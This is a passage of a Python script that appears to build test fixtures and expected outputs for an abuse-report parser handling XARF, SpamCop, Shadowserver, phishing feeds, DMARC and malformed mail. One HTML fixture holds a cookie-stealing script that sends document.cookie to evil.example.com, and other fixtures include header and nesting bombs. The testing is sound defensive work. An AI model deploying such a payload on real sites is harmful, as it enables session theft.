    "xarf_version": "4.0.0", "report_id": "550e8400-e29b-41d4-a716-446655440000", "timestamp": "2023-06-22T04:32:10Z",
    "reporter": {"org": "Example CERT", "contact": "cert@cert.example.org", "domain": "cert.example.org"},
    "sender": {"org": "Example CERT", "contact": "cert@cert.example.org", "domain": "cert.example.org"},
    "source_identifier": "203.0.113.60", "source_port": 25, "category": "messaging", "type": "spam", "protocol": "smtp",
    "smtp_from": "bulk@customer.example.jp", "subject": "Cheap watches", "evidence_source": "spamtrap",
    "description": "Spam caught in a spamtrap",
}
write("xarf4-spam.json", json.dumps(XARF4, indent=2),
      [{"format": "xarf4", "category": "spam", "track": "tos", "reporter": "cert@cert.example.org", "event_time": "2023-06-22T04:32:10Z",
        "indicators": [["ip_port", "203.0.113.60:25"], ["email", "bulk@customer.example.jp"]], "subject": "Spam caught in a spamtrap",
        "parse_error": False, "evidence": {"xarf_category": "messaging", "xarf_type": "spam"}}])

login = dict(XARF4, category="connection", type="login_attack", source_identifier="2001:db8:100::99", destination_ip="192.0.2.1",
             protocol="tcp", description="SSH login attack")
del login["source_port"]
del login["smtp_from"]
write("xarf4-login-attack.json", json.dumps(login),
      [{"format": "xarf4", "category": "brute-force", "indicators": [["ip", "2001:db8:100::99"]], "event_time": "2023-06-22T04:32:10Z"}])

bad = dict(XARF4, xarf_version="4", report_id="not-a-uuid", category="spamming")
del bad["reporter"]
write("xarf4-schema-violations.json", json.dumps(bad),
      [{"format": "xarf4", "category": "spam", "indicators": [["ip_port", "203.0.113.60:25"], ["email", "bulk@customer.example.jp"]],
        "warnings_contain": ["XARF schema: $: required field \"reporter\" is missing", "$.report_id: \"not-a-uuid\" is not a valid uuid",
                             "$.category: \"spamming\" is not one of", "$.xarf_version: \"4\" does not match"]}])

phish4 = dict(XARF4, category="content", type="phishing", url="https://bank-login.example.jp/", source_identifier="bank-login.example.jp")
del phish4["source_port"]
del phish4["smtp_from"]
message = email.mime.multipart.MIMEMultipart()
message.attach(email.mime.text.MIMEText("XARF report attached.\n", "plain", "utf-8"))
message.attach(email.mime.application.MIMEApplication(json.dumps(phish4).encode(), "json", Name="report.json"))
message["From"] = "cert@cert.example.org"
message["To"] = "abuse@provider.example"
message["Subject"] = "XARF phishing report"
message["Date"] = "Thu, 22 Jun 2023 05:00:00 +0000"
message["Message-ID"] = "<xarf4-in-mail@cert.example.org>"
write("xarf4-in-mail.eml", message.as_bytes(),
      [{"format": "xarf4", "category": "phishing", "reporter": "cert@cert.example.org", "message_id": "xarf4-in-mail@cert.example.org",
        "indicators": [["domain", "bank-login.example.jp"], ["url", "https://bank-login.example.jp/"]], "event_time": "2023-06-22T04:32:10Z"}])

write("xarf4-legacy-shape.json", json.dumps({
    "Version": "4", "ReporterInfo": {"ReporterOrg": "Old CERT", "ReporterOrgEmail": "old@cert.example.org"},
    "Report": {"ReportClass": "Activity", "ReportType": "Spam", "Date": "2023-06-22T04:32:10+00:00", "SourceIp": "198.51.100.5", "SourcePort": 587}}),
    [{"format": "xarf4", "category": "spam", "reporter": "old@cert.example.org", "indicators": [["ip_port", "198.51.100.5:587"]],
      "event_time": "2023-06-22T04:32:10Z", "warnings_contain": ["XARF v4 draft shape"]}])

# ---------------------------------------------------------------------------------------------------------------
# SpamCop
# ---------------------------------------------------------------------------------------------------------------

message = email.mime.multipart.MIMEMultipart()
message.attach(email.mime.text.MIMEText(
    "[ SpamCop V5.4.0 ]\nThis message is brief for your comfort.  Please follow links for details.\n\n"
    "http://www.spamcop.net/w3m?i=z1234567890\nEmail from 203.0.113.66 / Thu, 22 Jun 2023 04:32:10 +0900\n\n"
    "http://www.spamcop.net/mcgi?action=munging\nSpamvertised web site: http://cheap-watches.example.com/offer\n", "plain", "us-ascii"))
message.attach(rfc822(spam_original(ip="203.0.113.66", sender="offers@cheap-watches.example.com", url="http://cheap-watches.example.com/offer")))
message["From"] = "1234567890@reports.spamcop.net"
message["To"] = "abuse@provider.example"
message["Subject"] = "[SpamCop (http://cheap-watches.example.com/offer) id:7192837465]Cheap watches"
message["Date"] = "Thu, 22 Jun 2023 05:00:00 +0000"
message["Message-ID"] = "<spamcop-1@reports.spamcop.net>"
write("spamcop-report.eml", message.as_bytes(),
      [{"format": "spamcop", "category": "spam", "track": "tos", "reporter": "1234567890@reports.spamcop.net",
        "event_time": "2023-06-21T19:32:10Z", "evidence": {"spamcop_id": "7192837465"},
        "indicators": [["ip", "203.0.113.66"], ["url", "http://cheap-watches.example.com/offer"], ["email", "offers@cheap-watches.example.com"]]}])

message = email.mime.text.MIMEText(
    "[ SpamCop V5.4.0 ]\nEmail from 2001:db8:100::45 / 22 Jun 2023 04:32:10 -0000\n", "plain", "us-ascii")
message["From"] = "1234567891@reports.spamcop.net"
message["Subject"] = "[SpamCop (2001:db8:100::45) id:7192837466]Re: offer"
message["Date"] = "Thu, 22 Jun 2023 05:00:00 +0000"
message["Message-ID"] = "<spamcop-2@reports.spamcop.net>"
write("spamcop-ipv6.eml", message.as_bytes(),
      [{"format": "spamcop", "category": "spam", "indicators": [["ip", "2001:db8:100::45"]], "event_time": "2023-06-22T04:32:10Z"}])

# ---------------------------------------------------------------------------------------------------------------
# Shadowserver CSV reports (each row an event)
# ---------------------------------------------------------------------------------------------------------------

write("2023-06-22-scan_dns-asn-jp.csv",
      '"timestamp","ip","protocol","port","hostname","tag","asn","geo","region","city","naics","sector","dns_version","min_amplification"\n'
      '"2023-06-22 04:32:10","203.0.113.53","udp",53,"ns1.customer.example.jp","openresolver",64500,"JP","TOKYO","TOKYO",,,"9.16.1","10.5"\n'
      '"2023-06-22 04:33:11","203.0.113.54","udp",53,,"openresolver",64500,"JP","OSAKA","OSAKA",,,,"8.1"\n'
      '"2023-06-22 04:34:12","2001:db8:100::53","udp",53,,"openresolver",64500,"JP",,,,,,"3.0"\n',
      [{"format": "shadowserver", "category": "open-service", "track": "tos", "reporter": "shadowserver", "event_time": "2023-06-22T04:32:10Z",
        "indicators": [["ip", "203.0.113.53"], ["domain", "ns1.customer.example.jp"]], "evidence": {"report": "scan_dns", "tag": "openresolver", "port": "53"}},
       {"format": "shadowserver", "category": "open-service", "event_time": "2023-06-22T04:33:11Z", "indicators": [["ip", "203.0.113.54"]]},
       {"format": "shadowserver", "category": "open-service", "event_time": "2023-06-22T04:34:12Z", "indicators": [["ip", "2001:db8:100::53"]]}])

write("2023-06-22-scan_ntp-asn-jp.csv",
      "timestamp,ip,protocol,port,hostname,tag,asn,geo,version,clock,response_size\n"
      "2023-06-22 01:00:00,198.51.100.123,udp,123,,ntpversion,64500,JP,4,,468\n",
      [{"format": "shadowserver", "category": "open-service", "indicators": [["ip", "198.51.100.123"]], "event_time": "2023-06-22T01:00:00Z",
        "evidence": {"report": "scan_ntp"}}])

write("2023-06-22-botnet_drone-asn-jp.csv",
      "timestamp,ip,port,asn,geo,region,city,hostname,type,infection,src_port,dst_ip,dst_port,dst_asn,dst_geo\n"
      "2023-06-22 02:10:00,198.51.100.7,,64500,JP,TOKYO,TOKYO,,tcp,avalanche-andromeda,1500,192.0.2.99,80,64501,US\n"
      "2023-06-22 02:11:00,198.51.100.7,,64500,JP,TOKYO,TOKYO,,tcp,mirai,2500,192.0.2.99,23,64501,US\n",
      [{"format": "shadowserver", "category": "botnet", "indicators": [["ip_port", "198.51.100.7:1500"]], "event_time": "2023-06-22T02:10:00Z",
        "evidence": {"report": "botnet_drone", "infection": "avalanche-andromeda"}},
       {"format": "shadowserver", "category": "botnet", "indicators": [["ip_port", "198.51.100.7:2500"]], "evidence": {"infection": "mirai"}}])

write("2023-06-22-event4_sinkhole_http-asn-jp.csv",
      "timestamp,protocol,src_ip,src_port,src_asn,src_geo,dst_ip,dst_port,infection,http_url\n"
      "2023-06-22 03:00:00,tcp,203.0.113.240,51000,64500,JP,192.0.2.200,80,emotet,/index.php\n",
      [{"format": "shadowserver", "category": "botnet", "indicators": [["ip_port", "203.0.113.240:51000"]], "event_time": "2023-06-22T03:00:00Z"}])

write("2023-06-22-event4_honeypot_brute_force-asn-jp.csv",
      "timestamp,protocol,src_ip,src_port,src_asn,src_geo,dst_ip,dst_port,service,login_attempts\n"
      "2023-06-22 03:30:00,tcp,203.0.113.201,0,64500,JP,192.0.2.1,22,ssh,340\n",
      [{"format": "shadowserver", "category": "brute-force", "indicators": [["ip", "203.0.113.201"]], "event_time": "2023-06-22T03:30:00Z"}])

write("2023-06-22-compromised_website-asn-jp.csv",
      "timestamp,ip,port,hostname,tag,application,asn,geo\n"
      "2023-06-22 06:00:00,203.0.113.10,443,www.shop-example.jp,cryptojacking,http,64500,JP\n",
      [{"format": "shadowserver", "category": "webshell", "indicators": [["ip", "203.0.113.10"], ["domain", "www.shop-example.jp"]]}])

# A Shadowserver report mailed as a zipped attachment.
buffer = io.BytesIO()
with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
    archive.writestr("2023-06-22-scan_ssdp-asn-jp.csv", "timestamp,ip,protocol,port,hostname,tag,asn,geo\n"
                     "2023-06-22 07:00:00,198.51.100.190,udp,1900,,ssdp,64500,JP\n")
message = email.mime.multipart.MIMEMultipart()
message.attach(email.mime.text.MIMEText("Shadowserver report attached.\n", "plain", "us-ascii"))
message.attach(email.mime.application.MIMEApplication(buffer.getvalue(), "zip", Name="2023-06-22-scan_ssdp-asn-jp.csv.zip"))
message["From"] = "autoreports@shadowserver.org"
message["Subject"] = "[Example ISP] Shadowserver JP Accessible SSDP Service Report: 2023-06-22"
message["Date"] = "Thu, 22 Jun 2023 10:00:00 +0000"
message["Message-ID"] = "<shadowserver-zip@shadowserver.org>"
write("shadowserver-zip-in-mail.eml", message.as_bytes(),
      [{"format": "shadowserver", "category": "open-service", "reporter": "shadowserver", "message_id": "shadowserver-zip@shadowserver.org",
        "indicators": [["ip", "198.51.100.190"]], "event_time": "2023-06-22T07:00:00Z", "evidence": {"report": "scan_ssdp"}}])

# ---------------------------------------------------------------------------------------------------------------
# Phishing and malware feeds
# ---------------------------------------------------------------------------------------------------------------

write("phishtank.csv",
      "phish_id,url,phish_detail_url,submission_time,verified,verification_time,online,target\n"
      "8123456,http://paypal-verify.example.jp/login.php,http://www.phishtank.com/phish_detail.php?phish_id=8123456,2023-06-22T04:32:10+00:00,yes,2023-06-22T05:00:00+00:00,yes,PayPal\n"
      "8123457,\"https://secure.example-bank.example.com/a,b\",http://www.phishtank.com/phish_detail.php?phish_id=8123457,2023-06-22T04:40:00+00:00,yes,2023-06-22T05:10:00+00:00,yes,Other\n",
      [{"format": "phishtank", "category": "phishing", "reporter": "phishtank", "event_time": "2023-06-22T04:32:10Z",
        "indicators": [["url", "http://paypal-verify.example.jp/login.php"]], "subject": "Phishing URL (target: PayPal)"},
       {"format": "phishtank", "category": "phishing", "indicators": [["url", "https://secure.example-bank.example.com/a,b"]]}])

write("phishtank-feed.json", json.dumps([
    {"phish_id": 8123458, "url": "http://amazon-login.example.net/", "submission_time": "2023-06-22T04:32:10+00:00",
     "verified": "yes", "online": "yes", "target": "Amazon.com"}]),
      [{"format": "phishtank", "category": "phishing", "indicators": [["url", "http://amazon-login.example.net/"]],
        "event_time": "2023-06-22T04:32:10Z", "evidence": {"phish_id": "8123458", "target": "Amazon.com"}}])

write("openphish-feed.txt",
      "https://apple-id-verify.example.jp/\nhttp://microsoft-365.example.net/login?session=1\nhttps://example-bank.example.com/secure\n",
      [{"format": "openphish", "category": "phishing", "indicators": [["url", "https://apple-id-verify.example.jp/"]]},
       {"format": "openphish", "indicators": [["url", "http://microsoft-365.example.net/login?session=1"]]},
       {"format": "openphish", "indicators": [["url", "https://example-bank.example.com/secure"]]}])

write("urlhaus.csv",
      "################################################################\n# abuse.ch URLhaus Database Dump (CSV)                         #\n"
      "# Last updated: 2023-06-22 06:00:00 (UTC)                      #\n################################################################\n"
      "# id,dateadded,url,url_status,last_online,threat,tags,urlhaus_link,reporter\n"
      '"2634001","2023-06-22 04:32:10","http://203.0.113.70/bins/mirai.arm7","online","2023-06-22 05:00:00","malware_download","elf,mirai","https://urlhaus.abuse.ch/url/2634001/","r3dbU7z"\n'
      '"2634002","2023-06-22 04:35:00","https://docs.customer.example.jp/invoice.zip","offline","2023-06-22 04:50:00","malware_download","emotet,zip","https://urlhaus.abuse.ch/url/2634002/","spamhaus"\n',
      [{"format": "urlhaus", "category": "malware", "reporter": "urlhaus", "event_time": "2023-06-22T04:32:10Z",
        "indicators": [["url", "http://203.0.113.70/bins/mirai.arm7"]], "evidence": {"urlhaus_id": "2634001", "url_status": "online", "tags": "elf,mirai"}},
       {"format": "urlhaus", "category": "malware", "indicators": [["url", "https://docs.customer.example.jp/invoice.zip"]], "event_time": "2023-06-22T04:35:00Z"}])

# ---------------------------------------------------------------------------------------------------------------
# DMARC aggregate reports
# ---------------------------------------------------------------------------------------------------------------

DMARC = """<?xml version="1.0" encoding="UTF-8" ?>
<feedback>
  <report_metadata>
    <org_name>mailbox-provider.example.com</org_name>
    <email>noreply-dmarc-support@mailbox-provider.example.com</email>
    <report_id>12345678901234567890</report_id>
    <date_range><begin>1687392000</begin><end>1687478399</end></date_range>
  </report_metadata>
  <policy_published><domain>provider.example</domain><adkim>r</adkim><aspf>r</aspf><p>none</p><sp>none</sp><pct>100</pct></policy_published>
  <record>
    <row><source_ip>192.0.2.25</source_ip><count>120</count>
      <policy_evaluated><disposition>none</disposition><dkim>pass</dkim><spf>pass</spf></policy_evaluated></row>
    <identifiers><header_from>provider.example</header_from></identifiers>
    <auth_results><dkim><domain>provider.example</domain><result>pass</result></dkim><spf><domain>provider.example</domain><result>pass</result></spf></auth_results>
  </record>
  <record>
    <row><source_ip>203.0.113.99</source_ip><count>35</count>
      <policy_evaluated><disposition>none</disposition><dkim>fail</dkim><spf>fail</spf></policy_evaluated></row>
    <identifiers><header_from>provider.example</header_from><envelope_from>phisher.example.net</envelope_from></identifiers>
    <auth_results><spf><domain>phisher.example.net</domain><result>fail</result></spf></auth_results>
  </record>
  <record>
    <row><source_ip>2001:db8:dead::1</source_ip><count>2</count>
      <policy_evaluated><disposition>quarantine</disposition><dkim>fail</dkim><spf>softfail</spf></policy_evaluated></row>
    <identifiers><header_from>mail.provider.example</header_from></identifiers>
  </record>
</feedback>
"""
DMARC_DRAFTS = [
    {"format": "dmarc", "category": "phishing", "track": "tos", "reporter": "noreply-dmarc-support@mailbox-provider.example.com",
     "event_time": "2023-06-22T00:00:00Z", "indicators": [["ip", "203.0.113.99"], ["domain", "provider.example"]],
     "evidence": {"count": "35", "dkim": "fail", "spf": "fail", "envelope_from": "phisher.example.net", "org_name": "mailbox-provider.example.com"}},
    {"format": "dmarc", "category": "phishing", "indicators": [["ip", "2001:db8:dead::1"], ["domain", "mail.provider.example"]],
     "evidence": {"disposition": "quarantine", "count": "2"}},
]
write("dmarc-aggregate.xml", DMARC, DMARC_DRAFTS)
write("dmarc-aggregate.xml.gz", gzip.compress(DMARC.encode(), mtime=0),
      [dict(d, **{}) for d in DMARC_DRAFTS])

buffer = io.BytesIO()
with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
    archive.writestr("mailbox-provider.example.com!provider.example!1687392000!1687478399.xml", DMARC)
message = email.mime.multipart.MIMEMultipart()
message.attach(email.mime.text.MIMEText("This is a DMARC aggregate report for provider.example.\n", "plain", "us-ascii"))
message.attach(email.mime.application.MIMEApplication(buffer.getvalue(), "zip",
                                                       Name="mailbox-provider.example.com!provider.example!1687392000!1687478399.zip"))
message["From"] = "noreply-dmarc-support@mailbox-provider.example.com"
message["Subject"] = "Report domain: provider.example Submitter: mailbox-provider.example.com Report-ID: 12345678901234567890"
message["Date"] = "Fri, 23 Jun 2023 00:10:00 +0000"
message["Message-ID"] = "<dmarc-zip@mailbox-provider.example.com>"
write("dmarc-zip-in-mail.eml", message.as_bytes(), [dict(d, message_id="dmarc-zip@mailbox-provider.example.com") for d in DMARC_DRAFTS])

write("dmarc-all-pass.xml", DMARC.split("<record>")[0] + "<record>" + DMARC.split("<record>")[1].split("</record>")[0] + "</record>\n</feedback>\n",
      [{"format": "dmarc", "category": "other", "indicators": [["domain", "provider.example"]], "evidence": {"failing_records": "0"}}])

# ---------------------------------------------------------------------------------------------------------------
# Broken and hostile input: stored for triage, never dropped
# ---------------------------------------------------------------------------------------------------------------

write("broken-no-boundary.eml",
      b"From: a@reporter.example.org\r\nSubject: spam from 203.0.113.5\r\nMessage-ID: <broken-1@reporter.example.org>\r\n"
      b"Content-Type: multipart/mixed\r\n\r\nThis says multipart but has no boundary. Spam from 203.0.113.5.\r\n",
      [{"format": "mime", "category": "spam", "parse_error": False, "indicators": [["ip", "203.0.113.5"]],
        "warnings_contain": ["multipart/mixed without a boundary; read as text"]}],
      python={"body": "Python reports no text body for a multipart without a boundary; Mogura reads it as text"})

write("broken-unclosed-boundary.eml",
      b"From: a@reporter.example.org\r\nSubject: phishing report\r\nMessage-ID: <broken-2@reporter.example.org>\r\n"
      b"Content-Type: multipart/mixed; boundary=\"XYZ\"\r\n\r\n--XYZ\r\nContent-Type: text/plain\r\n\r\n"
      b"Phishing at http://bad.example.jp/ here.\r\n--XYZ\r\nContent-Type: text/plain\r\n\r\nsecond part",
      [{"format": "mime", "category": "phishing", "indicators": [["url", "http://bad.example.jp/"]],
        "warnings_contain": ["multipart without its closing boundary"]}])

write("broken-bad-base64.eml",
      b"From: a@reporter.example.org\r\nSubject: spam\r\nMessage-ID: <broken-3@reporter.example.org>\r\n"
      b"Content-Type: text/plain; charset=utf-8\r\nContent-Transfer-Encoding: base64\r\n\r\n"
      b"U3BhbSBmcm9tIDIwMy4wLjExMy45OQ==!!!!\r\n",
      [{"format": "mime", "category": "spam", "indicators": [["ip", "203.0.113.99"]], "warnings_contain": ["base64 body with characters outside the alphabet"]}],
      python={"body": "Python decodes base64 leniently too; equal"})

write("broken-unknown-charset.eml",
      b"From: a@reporter.example.org\r\nSubject: =?x-unknown?B?c3BhbQ==?= report\r\nMessage-ID: <broken-4@reporter.example.org>\r\n"
      b"Content-Type: text/plain; charset=x-mac-klingon\r\n\r\n" + "迷惑メール 203.0.113.44".encode("utf-8") + b"\r\n",
      [{"format": "mime", "category": "spam", "language": "ja", "indicators": [["ip", "203.0.113.44"]],
        "warnings_contain": ["declared charset \"x-mac-klingon\" is unknown; decoded as utf-8"]}],
      python={"subject": "unknown charset in an encoded word: Python leaves the word encoded", "body": "unknown charset: Python replaces the 8-bit bytes"})

write("broken-header-bomb.eml",
      b"From: a@reporter.example.org\r\nMessage-ID: <broken-5@reporter.example.org>\r\nX-Bomb: " + b"A" * 400000 + b"\r\nSubject: bomb\r\n\r\nbody\r\n",
      [{"format": "unparsed", "parse_error": True, "indicators": []}],
      python={"skip": "a limit case: Mogura refuses the header section (stored for triage), Python parses it"})

nested = b"Subject: innermost\r\n\r\nspam"
for level in range(30):
    nested = b"Content-Type: message/rfc822\r\n\r\n" + nested
write("broken-nesting-bomb.eml", b"From: a@reporter.example.org\r\nMessage-ID: <broken-6@reporter.example.org>\r\n" + nested,
      [{"format": "unparsed", "parse_error": True}], python={"skip": "a limit case: nested deeper than the limit"})

write("broken-binary-garbage.eml", bytes(range(256)) * 4,
      [{"format": "text", "parse_error": False, "category": "other"}], python={"skip": "not a mail"})

write("broken-truncated.eml",
      b"From: a@reporter.example.org\r\nSubject: truncated report about 198.51.100.66\r\nMessage-ID: <broken-8@reporter.example.org>\r\n"
      b"Content-Type: multipart/mixed; boundary=\"b\"\r\n\r\n--b\r\nContent-Type: text/plain\r\nContent-Transfer-Encoding: quoted-printable\r\n\r\nspam from 198.51.100.66 =",
      [{"format": "mime", "category": "spam", "indicators": [["ip", "198.51.100.66"]], "warnings_contain": ["multipart without its closing boundary"]}])

write("broken-empty.eml", b"", [{"format": "unparsed", "parse_error": True}], python={"skip": "empty"})

write("broken-html-script.eml",
      b"From: a@reporter.example.org\r\nSubject: malware\r\nMessage-ID: <broken-9@reporter.example.org>\r\nContent-Type: text/html\r\n\r\n"
      b"<script>document.location='http://evil.example.com/steal?c='+document.cookie</script><p>Malware at http://dl.example.net/x.exe</p>",
      [{"format": "mime", "category": "malware", "indicators": [["url", "http://dl.example.net/x.exe"]]}],
      python={"body": "HTML-only: Python returns the HTML source (with the script); Mogura drops scripts"})

# ---------------------------------------------------------------------------------------------------------------
# Plain text and an mbox
# ---------------------------------------------------------------------------------------------------------------

write("text-japanese-complaint.txt",
      "件名：迷惑メールについて\n貴社の 203.0.113.45 から迷惑メールが送られてきています。\n受信日時：2023年6月22日 4時32分\n".encode("utf-8"),
      [{"format": "text", "category": "spam", "language": "ja", "indicators": [["ip", "203.0.113.45"]], "event_time": "2023-06-21T19:32:00Z",
        "zone_assumed": True, "subject": "件名：迷惑メールについて"}])

write("text-english-sjis.txt", "Phishing page http://login.example.jp/ reported on 2023-06-22 04:32 JST. 日本語".encode("cp932"),
      [{"format": "text", "category": "phishing", "indicators": [["url", "http://login.example.jp/"]], "event_time": "2023-06-21T19:32:00Z",
        "warnings_contain": ["no charset declared for 8-bit text; decoded as shift_jis"]}])

mbox = b""
for index, (ip, subject) in enumerate([("203.0.113.1", "spam one"), ("203.0.113.2", "spam two"), ("203.0.113.3", "From here: phishing three")]):
    mbox += (b"From reporter@example.org Thu Jun 22 04:32:1%d 2023\n" % index +
             b"From: reporter@example.org\nSubject: " + subject.encode() + b"\nMessage-ID: <mbox-%d@example.org>\n\n" % index +
             b"Report about " + ip.encode() + b"\nFrom the logs: it was bad.\n\n")
write("channel-three-messages.mbox", mbox,
      [{"source_suffix": "#1", "category": "spam", "indicators": [["ip", "203.0.113.1"]], "message_id": "mbox-0@example.org"},
       {"source_suffix": "#2", "category": "spam", "indicators": [["ip", "203.0.113.2"]], "message_id": "mbox-1@example.org"},
       {"source_suffix": "#3", "category": "phishing", "indicators": [["ip", "203.0.113.3"]], "message_id": "mbox-2@example.org"}],
      python={"skip": "an mbox, read through mogura ingest"})

# ---------------------------------------------------------------------------------------------------------------
# More structure and charset cases
# ---------------------------------------------------------------------------------------------------------------

import base64 as _b64
# One ISO-2022-JP subject split across three encoded words in the middle of a character's bytes.
subject_bytes = iso2022jp_cp50220("迷惑メール送信元のご連絡")
chunks = [subject_bytes[0:7], subject_bytes[7:15], subject_bytes[15:]]
split_subject = "\r\n ".join("=?ISO-2022-JP?B?" + _b64.b64encode(c).decode() + "?=" for c in chunks)
write("ja-iso2022jp-split-encoded-words.eml",
      ("From: taro@reporter.example.org\r\nSubject: " + split_subject + "\r\nMessage-ID: <ja-split@reporter.example.org>\r\n"
       "Date: Fri, 23 Jun 2023 10:00:00 +0900\r\nContent-Type: text/plain; charset=ISO-2022-JP\r\n\r\n").encode("ascii") +
      iso2022jp_cp50220("送信元は 203.0.113.46 です。\n").replace(b"\n", b"\r\n"),
      [{"format": "mime", "category": "spam", "subject": "迷惑メール送信元のご連絡", "indicators": [["ip", "203.0.113.46"]], "language": "ja",
        "event_time": "2023-06-23T01:00:00Z"}],
      python={"subject": "Python decodes each encoded word on its own and the split character breaks"})

outer = email.mime.multipart.MIMEMultipart()
outer.attach(email.mime.text.MIMEText("See attached spam.\n", "plain", "us-ascii"))
eml = email.mime.application.MIMEApplication(spam_original(ip="198.51.100.62", sender="deals@promo.example.com", url="http://promo.example.com/deal").as_bytes(),
                                             "octet-stream", Name="spam.eml")
eml.add_header("Content-Disposition", "attachment", filename="spam.eml")
outer.attach(eml)
outer["From"] = "user@isp.example.net"
outer["Subject"] = "spam"
outer["Date"] = "Thu, 22 Jun 2023 12:00:00 +0000"
outer["Message-ID"] = "<eml-octet@isp.example.net>"
write("en-attached-eml-octet-stream.eml", outer.as_bytes(),
      [{"format": "mime", "category": "spam", "reporter": "user@isp.example.net", "event_time": "2023-06-21T19:32:10Z",
        "indicators": [["ip", "198.51.100.62"], ["email", "deals@promo.example.com"], ["url", "http://promo.example.com/deal"]]}])

write("ja-utf8-8bit-raw.eml",
      ("From: 佐藤 <sato@reporter.example.org>\r\nSubject: 不正アクセスの報告 203.0.113.78\r\nMessage-ID: <ja-8bit@reporter.example.org>\r\n"
       "Date: Fri, 23 Jun 2023 10:00:00 +0900\r\nContent-Type: text/plain; charset=UTF-8\r\nContent-Transfer-Encoding: 8bit\r\n\r\n"
       "203.0.113.78 から総当たり攻撃がありました。時刻 2023年6月22日 23時10分（日本時間）\r\n").encode("utf-8"),
      [{"format": "mime", "category": "brute-force", "subject": "不正アクセスの報告 203.0.113.78", "reporter": "sato@reporter.example.org",
        "indicators": [["ip", "203.0.113.78"]], "event_time": "2023-06-22T14:10:00Z", "zone_assumed": False, "language": "ja"}])

inner = spam_original(ip="203.0.113.47", sender="win@lottery.example.net", url="http://lottery.example.net/claim")
part = email.mime.base.MIMEBase("message", "rfc822")
part.set_payload(_b64.encodebytes(inner.as_bytes()).decode())
part["Content-Transfer-Encoding"] = "base64"
outer = email.mime.multipart.MIMEMultipart()
outer.attach(email.mime.text.MIMEText("Forwarded.\n", "plain", "us-ascii"))
outer.attach(part)
outer["From"] = "user@isp.example.net"
outer["Subject"] = "lottery scam"
outer["Date"] = "Thu, 22 Jun 2023 12:00:00 +0000"
outer["Message-ID"] = "<rfc822-b64@isp.example.net>"
write("en-message-rfc822-base64.eml", outer.as_bytes(),
      [{"format": "mime", "category": "spam", "indicators": [["ip", "203.0.113.47"], ["email", "win@lottery.example.net"],
                                                            ["url", "http://lottery.example.net/claim"]], "event_time": "2023-06-21T19:32:10Z"}],
      python={"skip": "a base64-encoded message/rfc822 is not allowed by RFC 2046; Python leaves it undecoded"})

related = email.mime.multipart.MIMEMultipart("related")
alternative = email.mime.multipart.MIMEMultipart("alternative")
alternative.attach(email.mime.text.MIMEText("Phishing kit found at https://cdn.example-hosting.net/kit.zip\n", "plain", "utf-8"))
alternative.attach(email.mime.text.MIMEText("<p>Phishing kit found at <a href=\"https://cdn.example-hosting.net/kit.zip\">the kit</a></p><img src=\"cid:logo\">", "html", "utf-8"))
related.attach(alternative)
image = email.mime.base.MIMEBase("image", "png")
image.set_payload(_b64.encodebytes(b"\x89PNG\r\n\x1a\n" + b"\0" * 32).decode())
image["Content-Transfer-Encoding"] = "base64"
image["Content-ID"] = "<logo>"
related.attach(image)
related["From"] = "soc@cert.example.org"
related["Subject"] = "Phishing kit"
related["Date"] = "Thu, 22 Jun 2023 12:00:00 +0000"
related["Message-ID"] = "<related@cert.example.org>"
write("en-multipart-related.eml", related.as_bytes(),
      [{"format": "mime", "category": "phishing", "reporter": "soc@cert.example.org", "indicators": [["url", "https://cdn.example-hosting.net/kit.zip"]]}])

digest = email.mime.multipart.MIMEMultipart("digest")
for number, ip in enumerate(["192.0.2.61", "192.0.2.62"]):
    digest.attach(email.mime.message.MIMEMessage(spam_original(ip=ip, sender="a%d@bulk.example.com" % number, url="http://bulk.example.com/%d" % number)))
outer = email.mime.multipart.MIMEMultipart()
outer.attach(email.mime.text.MIMEText("Two spams in a digest.\n", "plain", "us-ascii"))
outer.attach(digest)
outer["From"] = "user@isp.example.net"
outer["Subject"] = "spam digest"
outer["Date"] = "Thu, 22 Jun 2023 12:00:00 +0000"
outer["Message-ID"] = "<digest@isp.example.net>"
write("en-digest.eml", outer.as_bytes(),
      [{"format": "mime", "category": "spam", "indicators": [["ip", "192.0.2.61"], ["email", "a0@bulk.example.com"], ["url", "http://bulk.example.com/0"]]}])

write("2023-06-22-scan_memcached-asn-jp.csv.gz", gzip.compress(
    b"timestamp,ip,protocol,port,hostname,tag,asn,geo\n2023-06-22 08:00:00,198.51.100.211,udp,11211,,memcached,64500,JP\n", mtime=0),
      [{"format": "shadowserver", "category": "open-service", "indicators": [["ip", "198.51.100.211"]], "event_time": "2023-06-22T08:00:00Z",
        "evidence": {"report": "scan_memcached"}}])

# EUC-JP with the NEC row-13 extensions (eucJP-ms), which Python's euc_jp refuses.
write("ja-eucjp-ms-extensions.eml",
      b"From: taro@reporter.example.org\r\nSubject: spam\r\nMessage-ID: <eucjp-ms@reporter.example.org>\r\nDate: Fri, 23 Jun 2023 10:00:00 +0900\r\n"
      b"Content-Type: text/plain; charset=EUC-JP\r\n\r\n" + "迷惑メール".encode("euc_jp") + bytes([0xAD, 0xA1]) + " 203.0.113.48\r\n".encode(),
      [{"format": "mime", "category": "spam", "indicators": [["ip", "203.0.113.48"]], "language": "ja", "warnings_contain": []}],
      python={"body": "eucJP-ms: Python's euc_jp refuses row 13 (①); Mogura decodes it through the CP932 mapping"})

# A Microsoft JMRP-style complaint: not ARF, the original attached as message/rfc822.
outer = email.mime.multipart.MIMEMultipart()
outer.attach(email.mime.text.MIMEText("This is an email abuse report for an email message received from IP 198.51.100.71 on Thu, 22 Jun 2023 04:32:10 -0700.\n", "plain", "us-ascii"))
outer.attach(rfc822(spam_original(ip="198.51.100.71", sender="noreply@customer.example.jp", url="http://customer.example.jp/p")))
outer["From"] = "staff@hotmail.example.com"
outer["Subject"] = "complaint about message from 198.51.100.71"
outer["Date"] = "Thu, 22 Jun 2023 12:00:00 +0000"
outer["Message-ID"] = "<jmrp@hotmail.example.com>"
outer["X-HmXmrOriginalRecipient"] = "<victim@hotmail.example.com>"
write("arf-jmrp-like.eml", outer.as_bytes(),
      [{"format": "mime", "category": "spam", "reporter": "staff@hotmail.example.com", "event_time": "2023-06-21T19:32:10Z",
        "indicators": [["ip", "198.51.100.71"], ["email", "noreply@customer.example.jp"], ["url", "http://customer.example.jp/p"]]}])

write("text-defanged-english.txt",
      b"Malicious URL hxxp://update-flash[.]example[.]com/flash.exe hosted at 203[.]0[.]113[.]81 port 8080; contact admin[@]example[.]com\n",
      [{"format": "text", "category": "malware", "language": "en", "indicators": [["url", "http://update-flash.example.com/flash.exe"],
